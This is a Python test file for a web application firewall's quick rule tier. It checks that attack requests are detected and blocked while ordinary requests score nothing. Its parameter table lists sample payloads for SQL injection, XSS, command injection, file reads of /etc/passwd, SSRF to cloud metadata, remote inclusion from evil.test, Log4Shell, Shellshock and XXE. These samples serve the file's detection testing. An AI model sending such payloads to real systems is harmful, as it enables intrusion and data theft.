"""The quick tier: what it says about attacks and ordinary requests, where, and how sure it is."""

from __future__ import annotations

import pytest

from dpi_dual.waf.quick import QuickRules
from dpi_dual.waf.request import parse
from tests.waf.samples import load, request_of

RULES = QuickRules()


@pytest.mark.parametrize(
    ("path", "headers", "body", "category", "place"),
    [
        ("/?id=1%27+or+1%3D1--", {}, "", "sqli", "ARGS:id"),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", {}, "", "xss", "ARGS:q"),
        ("/?f=../../../etc/passwd", {}, "", "lfi", "ARGS:f"),
        ("/?f=..%5c..%5c..%5cx", {}, "", "path_traversal", "ARGS:f"),
        ("/?c=;cat+/etc/hosts", {}, "", "rce", "ARGS:c"),
        ("/?u=http://169.254.169.254/latest", {}, "", "ssrf", "ARGS:u"),
        ("/?file=http://evil.test/x.txt?", {}, "", "rfi", "ARGS:file"),
        ("/", {"User-Agent": "sqlmap/1.7"}, "", "scanner", "REQUEST_HEADERS:user-agent"),
        ("/", {"X-Any": "${jndi:ldap://x/a}"}, "", "log4shell", "REQUEST_HEADERS:x-any"),
        ("/", {"Referer": "() { :; }; /bin/id"}, "", "shellshock", "REQUEST_HEADERS:referer"),
        ("/?a[$ne]=1", {}, "", "nosqli", "ARGS_NAMES:a[$ne]"),
        ("/?n={{7*7}}", {}, "", "ssti", "ARGS:n"),
        ("/?u=*)(uid=*))(|(uid=*", {}, "", "ldap", "ARGS:u"),
        ("/?r=x%0d%0aSet-Cookie:a=1", {}, "", "crlf", "ARGS:r"),
        ("/?p=%3C?php+phpinfo();", {}, "", "php", "ARGS:p"),
        ("/?class.module.classLoader.x=1", {}, "", "java", "ARGS_NAMES:class.module.classLoader.x"),
        ("/", {"Content-Type": "text/xml"}, '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a/>', "xxe", "XML"),
        ("/", {"Content-Length": "1", "Transfer-Encoding": "chunked"}, "", "protocol", "REQUEST_HEADERS"),
    ],
)
def test_category_and_place(path, headers, body, category, place):
    verdict = RULES.judge(parse("GET", path, headers, body))
    assert verdict.alert
    assert category in verdict.categories
    assert place in {hit.place for hit in verdict.rules if hit.category == category}


def test_a_clear_attack_blocks_and_an_ordinary_request_scores_nothing():
    assert RULES.judge(parse("GET", "/?id=1%27+union+select+1,2--")).block
    ordinary = RULES.judge(parse("GET", "/shop/items?page=2&sort=price", {"User-Agent": "Mozilla/5.0 (X11)"}))
    assert (ordinary.score, ordinary.categories, ordinary.rules, ordinary.alert) == (0, (), (), False)


def test_stricter_levels_say_at_least_as_much():
    for record in load("tuning")[:200]:
        request = request_of(record)
        scores = [QuickRules(level).judge(request).score for level in (1,)]
        assert scores[0] <= STRICT.judge(request).score


STRICT = QuickRules(3)


def test_thresholds():
    request = parse("GET", "/?id=1%27+or+1%3D1--")
    score = RULES.judge(request).score
    assert not QuickRules(alert_threshold=score + 1).judge(request).alert or score == 100
    assert not QuickRules(block_threshold=101).judge(request).block


def test_verdict_depends_on_nothing_that_came_before():
    requests = [request_of(record) for record in load("tuning")]
    fresh = [QuickRules().judge(request).score for request in requests[:40]]
    used = QuickRules()
    for request in requests:
        used.judge(request)
    assert [used.judge(request).score for request in requests[:40]] == fresh


def test_base64_is_looked_into_at_level_two():
    request = parse("GET", "/?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")
    assert not QuickRules(1).judge(request).alert
    assert QuickRules(2).judge(request).alert


@pytest.mark.parametrize(("name", "least", "most_false"), [("tuning", 0.92, 0.04), ("heldout", 0.95, 0.10)])
def test_accuracy_does_not_fall(name: str, least: float, most_false: float):
    """A floor under the own samples; their ordinary half is made of what is easily mistaken."""
    found = {"attack": [], "benign": []}
    for record in load(name):
        found[record["label"]].append(RULES.judge(request_of(record)).alert)
    assert sum(found["attack"]) / len(found["attack"]) >= least
    assert sum(found["benign"]) / len(found["benign"]) <= most_false
